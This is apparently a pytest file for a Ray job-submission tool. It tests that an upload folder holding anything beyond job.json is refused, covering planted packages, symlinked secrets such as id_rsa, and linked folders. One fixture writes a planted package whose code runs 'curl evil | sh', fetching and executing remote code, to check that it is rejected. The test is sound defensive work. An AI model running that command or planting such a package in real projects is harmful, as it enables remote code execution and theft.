"""The folder a submission uploads as the Ray job's working_dir holds job.json and nothing else: whatever
else is found there (a planted package, a link out of it) is refused, naming it, before anything is written."""

from __future__ import annotations

from pathlib import Path

import pytest

from cli import main
from sweep.address import jobs_client
from sweep.promote.errors import PromotionError
from sweep.promote.launch.local_cluster import ClusterShape, LocalCluster
from sweep.promote.launch.submit import write_upload_dir
from tests.hostile import tree
from tests.sweep.promote.ray_processes import processes_mentioning
from train_entry.fullrun.config import JOB_JSON

JOB = '{"job": 1}\n'


@pytest.fixture
def job_dir(tmp_path) -> Path:
    """Where a plan's first submission is uploaded from; the plan's directory exists, the job's does not."""
    plan_dir = tmp_path / "run" / "promotion" / "plan"
    plan_dir.mkdir(parents=True)
    return plan_dir / "jobs" / "cpt-plan"


def refused(job_dir: Path, root: Path) -> str:
    """The one-line message write_upload_dir refuses job_dir with; asserts nothing was written or removed."""
    before = tree(root)
    with pytest.raises(PromotionError) as error:
        write_upload_dir(job_dir, JOB)
    assert tree(root) == before
    message = str(error.value)
    assert "\n" not in message
    return message


def test_a_fresh_upload_folder_holds_job_json_only(job_dir):
    write_upload_dir(job_dir, JOB)
    assert [path.name for path in job_dir.iterdir()] == [JOB_JSON]
    assert (job_dir / JOB_JSON).read_text() == JOB


def test_the_job_json_of_an_attempt_that_failed_to_submit_is_replaced(job_dir):
    job_dir.mkdir(parents=True)
    (job_dir / JOB_JSON).write_text("{}")
    write_upload_dir(job_dir, JOB)
    assert [path.name for path in job_dir.iterdir()] == [JOB_JSON]
    assert (job_dir / JOB_JSON).read_text() == JOB


def test_a_planted_package_is_refused_naming_it(job_dir, tmp_path):
    (job_dir / "train_entry").mkdir(parents=True)  # would shadow the installed train_entry under `python -m`
    (job_dir / "train_entry" / "__init__.py").write_text("import os; os.system('curl evil | sh')\n")
    message = refused(job_dir, tmp_path)
    assert message.startswith(f"{job_dir} is uploaded whole as the job's working_dir and may hold only job.json")
    assert "'train_entry' (folder)" in message


@pytest.mark.parametrize("name", [JOB_JSON, "id_rsa", ".rayignore"])
def test_a_link_out_of_the_folder_is_refused(job_dir, tmp_path, name):
    secret = tmp_path / "secret"
    secret.write_text("key")
    job_dir.mkdir(parents=True)
    (job_dir / name).symlink_to(secret)  # Ray's upload follows links: the secret would travel with the job
    assert f"{name!r} (link)" in refused(job_dir, tmp_path)


def test_every_stray_entry_is_named_even_with_a_newline(job_dir, tmp_path):
    job_dir.mkdir(parents=True)
    for name in ("a", "b", "c", "d", "e", "f", "g\nh"):
        (job_dir / name).write_text("x")
    message = refused(job_dir, tmp_path)
    assert "'a' (file), 'b' (file), 'c' (file), 'd' (file), 'e' (file) and 2 more" in message


@pytest.mark.parametrize("linked", ["jobs folder", "job folder"])
def test_an_upload_folder_reached_through_a_link_is_refused(job_dir, tmp_path, linked):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    if linked == "jobs folder":
        job_dir.parent.symlink_to(elsewhere)  # the job's folder would be made outside the plan's directory
    else:
        job_dir.parent.mkdir()
        job_dir.symlink_to(elsewhere)
    assert "is not a plain folder (a link or a file)" in refused(job_dir, tmp_path)
    assert list(elsewhere.iterdir()) == []


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_submit_with_a_planted_upload_folder_is_exit_2_and_submits_nothing(finished_run, capsys, tmp_path):
    run_dir = finished_run()
    inputs = ["--tokenizer", "/shared/tok", "--base-checkpoint", "/shared/base", "--save-dir", "/shared/ckpt"]
    for side in ("general", "non_english", "domain"):
        inputs += ["--data-prefix", f"{side}=/shared/data/{side}", "--valid-prefix", f"{side}=/shared/valid/{side}"]
    plan = ["promote", "plan", str(run_dir), "--target", "llama3.1-8b", *inputs]
    assert main(plan) == 0  # the plan, to learn its id
    [plan_dir] = (run_dir / "promotion").iterdir()
    planted = plan_dir / "jobs" / f"cpt-{plan_dir.name}" / "train_entry"
    planted.mkdir(parents=True)
    (planted / "__init__.py").write_text("raise SystemExit('planted code ran')\n")
    capsys.readouterr()

    with LocalCluster(shape=ClusterShape(nodes=2, cpus_per_node=1)) as cluster:
        session = cluster.session_root
        code = main(["promote", "submit", *plan[2:], "--address", cluster.address])
        jobs = jobs_client(cluster.address).list_jobs()
    assert processes_mentioning(session) == []
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "'train_entry' (folder)" in err
    assert jobs == [] and not (plan_dir / "jobs.json").exists()
